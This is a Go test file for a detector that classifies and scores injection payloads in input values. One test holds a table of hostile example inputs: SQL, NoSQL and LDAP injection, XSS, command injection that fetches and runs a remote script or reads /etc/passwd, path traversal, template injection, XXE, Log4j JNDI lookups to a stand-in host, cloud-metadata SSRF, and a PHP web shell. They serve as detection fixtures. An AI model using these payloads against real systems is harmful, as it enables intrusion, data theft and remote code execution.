package payload

import (
	"bytes"
	"math"
	"math/rand/v2"
	"strings"
	"sync"
	"testing"

	"github.com/weir-dev/weir/simulate/injections"
)

func shipped(t testing.TB) *Detector {
	t.Helper()
	d, err := Prior()
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestClassicAttacksAreNamed(t *testing.T) {
	d, s := shipped(t), new(Scratch)
	for value, class := range map[string]Class{
		"1' or '1'='1' -- ": SQLi,
		"-1 union all select null,username,password from users":            SQLi,
		"1;waitfor delay '0:0:5'--":                                        SQLi,
		"%2531%2527%2520UNION%2520SELECT%25201%252C2":                      SQLi,
		"1'/**/UnIoN/**/SeLeCt/**/1,2,user()#":                             SQLi,
		"<script>alert(1)</script>":                                        XSS,
		"%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E":                       XSS,
		"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e":                    XSS,
		"127.0.0.1;cat /etc/passwd":                                        Command,
		"| ping -c 10 127.0.0.1":                                           Command,
		"$(wget http://203.0.113.9/x.sh -O- | sh)":                         Command,
		"../../../../../../etc/passwd":                                     Traversal,
		"..%252f..%252f..%252fwindows/win.ini":                             Traversal,
		"..%c0%af..%c0%af..%c0%afetc/passwd":                               Traversal,
		"{{7*7}}":                                                          Template,
		"${T(java.lang.Runtime).getRuntime().exec('id')}":                  Template,
		`{"username":{"$ne":null},"password":{"$ne":null}}`:                NoSQL,
		"*)(uid=*))(|(uid=*":                                               LDAP,
		`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`: XXE,
		"${jndi:ldap://evil.example/a}":                                    Log4j,
		"${${lower:j}ndi:${lower:l}dap://evil.example/a}":                  Log4j,
		"http://169.254.169.254/latest/meta-data/":                         SSRF,
		"en%0d%0aSet-Cookie:%20session=1":                                  Header,
		"<?php system($_GET['c']); ?>":                                     Code,
	} {
		f := d.Value(s, []byte(value))
		if f.Confidence < d.DefaultThreshold() {
			t.Errorf("%q: confidence %.4f", value, f.Confidence)
		} else if f.Class != class {
			t.Errorf("%q: class %s, want %s", value, f.Class, class)
		}
	}
}

func TestHardBenignValuesPass(t *testing.T) {
	d, s := shipped(t), new(Scratch)
	for _, value := range []string{
		"", "alice", "29dbe35a-3d62-4ae6-9ff1-07533ae65836", "Conan O'Brien", "Dell'Acqua & Figli",
		"Please select an option from the menu, then drop me a line; thanks!", "it's 5 < 6 and 7 > 3, isn't it?",
		"C:\\Users\\ana\\Documents\\cv.docx", "https://shop.example.com/p/1?ref=mail&utm_source=x#top",
		"https%3A%2F%2Fshop.example.com%2Fp%3Fa%3Db%26c%3Dd", `{"name":"O'Neil","tags":["a","b"],"note":"1 or 2; fine"}`,
		"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "1,2,3,4,5,6,7,8,9,10,11,12",
		"GA1.2.1923681230.1660477263", "query { user(id: 1) { name posts { title } } }", "12\" x 10' board",
		"**bold** and `code` and [a link](https://example.org)", "M10 10L20 20Z", "100% cotton; machine wash",
	} {
		if f := d.Value(s, []byte(value)); f.Confidence >= d.DefaultThreshold() {
			t.Errorf("%q: %+v", value, f)
		}
	}
}

func TestPaddingDoesNotDilute(t *testing.T) {
	d, s := shipped(t), new(Scratch)
	attack := "' union all select null,username,password from users-- -"
	alone := d.Value(s, []byte(attack)).Classifier
	pad := strings.Repeat("thank you for the quick delivery of my order ", 9)
	f := d.Value(s, []byte(pad+attack+" "+pad))
	if f.Classifier < alone-8 || f.Confidence < d.DefaultThreshold() {
		t.Errorf("alone %.1f, padded %.1f, confidence %.4f", alone, f.Classifier, f.Confidence)
	}
	if got := string(f.Decoded[f.SpanStart:f.SpanEnd]); len(got) != spanBytes {
		t.Errorf("span %q", got)
	}
}

func TestHeldOutGeneratedValues(t *testing.T) {
	d, s := shipped(t), new(Scratch)
	r := rand.New(rand.NewPCG(77, 78)) // not the seed of the prior
	const n = 400
	for _, c := range injections.Classes() {
		found, named := 0, 0
		for range n {
			f := d.Value(s, injections.Attack(c, r))
			if f.Confidence >= d.DefaultThreshold() {
				found++
				if f.Class == Class(c) {
					named++
				}
			}
		}
		t.Logf("%-10s found %.4f, of those named right %.4f", c, float64(found)/n, float64(named)/float64(found))
		if found < n*85/100 || named < found*70/100 {
			t.Errorf("%s: %d of %d found, %d named", c, found, n, named)
		}
	}
	alarms := 0
	for range 10 * n {
		if d.Value(s, injections.Benign(r)).Confidence >= d.DefaultThreshold() {
			alarms++
		}
	}
	t.Logf("false alarms %.5f", float64(alarms)/(10*n))
	if alarms > n*20/1000 {
		t.Errorf("%d false alarms in %d", alarms, 10*n)
	}
}

func TestConfidenceIsAProbabilityAndRises(t *testing.T) {
	d := shipped(t)
	last := -1.0
	for x := -30.0; x <= 30; x += 0.01 {
		p := d.confide.of(evidence{x, 20, 0, 3})
		if p < 0 || p > 1 || p < last {
			t.Fatalf("at %v: %v after %v", x, p, last)
		}
		last = p
	}
}

func TestNothingIsAllocated(t *testing.T) {
	d, s := shipped(t), new(Scratch)
	values := [][]byte{
		[]byte("alice"), []byte("Conan O'Brien, 12 High St."), []byte("https%3A%2F%2Fexample.com%2F%3Fa%3Db%26c%3Dd"),
		[]byte(`{"a":"b c","d":["e",{"f":"g&h"}]}`), []byte("PHA+aGVsbG8gd29ybGQ8L3A+"), bytes.Repeat([]byte("a b;"), 2000),
	}
	for _, v := range values {
		if n := testing.AllocsPerRun(50, func() { d.Value(s, v) }); n != 0 {
			t.Errorf("%.40q: %v allocations", v, n)
		}
	}
}

func TestConcurrentUseGivesTheSameFindings(t *testing.T) {
	d := shipped(t)
	r := rand.New(rand.NewPCG(5, 6))
	var values [][]byte
	var want []float64
	s := new(Scratch)
	for i := range 300 {
		v := injections.Benign(r)
		if i%2 == 0 {
			v = injections.Attack("xss", r)
		}
		values, want = append(values, v), append(want, d.Value(s, v).Confidence)
	}
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			s := new(Scratch)
			for i, v := range values {
				if got := d.Value(s, v).Confidence; got != want[i] {
					t.Errorf("%q: %v, want %v", v, got, want[i])
				}
			}
		})
	}
	wg.Wait()
}

// The language model against its definition: smoothed conditional frequencies.
func TestLanguageSumsToOne(t *testing.T) {
	g := new(trigrams)
	for _, v := range []string{"alice", "bob o'neil", "a b c", "42"} {
		g.add([]byte(v))
	}
	l := newLanguage(g)
	for _, l := range []*language{l, l.learn(g, learnKappa)} {
		for ab := range numKinds * numKinds {
			sum := 0.0
			for _, x := range l.surprise[ab*numKinds : (ab+1)*numKinds] {
				sum += math.Exp(-nat * float64(x))
			}
			if sum < 0.94 || sum > 1.06 { // rounding to units of surprise
				t.Fatalf("context %d: probabilities sum to %v", ab, sum)
			}
		}
	}
}

func TestWorstWindowIsTheMaximumOverWindows(t *testing.T) {
	l := shipped(t).language
	r := rand.New(rand.NewPCG(8, 9))
	for range 200 {
		b := injections.Attack("sqli", r)
		if len(b) > 300 {
			b = b[:300]
		}
		var each []float64
		ctx := uint32(kindSpace)*numKinds + kindSpace
		for _, c := range b {
			ctx = (ctx*numKinds + uint32(kindOf[c])) % (numKinds * numKinds * numKinds)
			each = append(each, nat*float64(l.surprise[ctx]))
		}
		want := 0.0
		for i := range each {
			sum := 0.0
			for _, x := range each[max(0, i-spanBytes+1) : i+1] {
				sum += x
			}
			want = max(want, sum)
		}
		if got, start, end := l.worst(b); math.Abs(got-want) > 1e-9 || end-start > spanBytes || end > len(b) {
			t.Fatalf("%q: %v in %d..%d, want %v", b, got, start, end, want)
		}
	}
}
